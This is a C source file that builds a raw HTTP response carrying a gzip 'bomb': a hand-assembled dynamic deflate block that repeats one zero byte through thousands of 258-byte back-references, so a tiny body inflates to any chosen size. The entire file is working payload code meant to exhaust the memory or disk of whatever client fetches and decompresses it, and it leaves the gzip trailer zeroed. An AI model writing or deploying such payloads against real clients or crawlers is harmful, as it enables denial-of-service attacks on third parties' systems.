#include "bomb.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

struct bits {
    unsigned char *bytes;
    size_t count; /* bits written */
};

/* Deflate packs from the lowest bit on. */
static void put(struct bits *bits, unsigned value, int count)
{
    for (int i = 0; i < count; i++) {
        if ((value >> i & 1U) != 0) {
            bits->bytes[bits->count / 8] |= (unsigned char)(1U << bits->count % 8);
        }
        bits->count++;
    }
}

/* A dynamic block whose codes are: 285 (copy 258) "0", literal 0 "10", end "11". */
static void put_codes(struct bits *bits)
{
    static const unsigned char lengths[18] = {[2] = 1, [15] = 2, [17] = 2};
    put(bits, 1, 1); /* the last block */
    put(bits, 2, 2); /* dynamic */
    put(bits, 29, 5);
    put(bits, 0, 5);
    put(bits, 14, 4);
    for (size_t i = 0; i < sizeof lengths; i++) {
        put(bits, lengths[i], 3);
    }
    put(bits, 3, 2); /* literal 0: length 2 */
    put(bits, 0, 1); /* 138 unused, 117 unused */
    put(bits, 127, 7);
    put(bits, 0, 1);
    put(bits, 106, 7);
    put(bits, 3, 2); /* end: length 2 */
    put(bits, 0, 1); /* 28 unused */
    put(bits, 17, 7);
    put(bits, 1, 2); /* 285: length 1 */
    put(bits, 1, 2); /* distance 1: length 1 */
}

char *bomb_make(size_t size, size_t *answer_size)
{
    static const unsigned char gzip[10] = {0x1f, 0x8b, 8, [9] = 3};
    size_t copies = size / 258;
    char *answer = calloc(1, 512 + copies / 4);
    if (answer == NULL) {
        abort();
    }
    int head = snprintf(answer, 256,
                        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
                        "Content-Encoding: gzip\r\nConnection: close\r\n\r\n");
    memcpy(answer + head, gzip, sizeof gzip);
    struct bits bits = {.bytes = (unsigned char *)answer + head + sizeof gzip};
    put_codes(&bits);
    put(&bits, 1, 2); /* literal 0: "10", first bit first */
    for (size_t i = 0; i < copies; i++) {
        put(&bits, 0, 2); /* copy 258 from distance 1 */
    }
    put(&bits, 3, 2);
    *answer_size = (size_t)head + sizeof gzip + bits.count / 8 + 1 + 8;
    return answer;
}
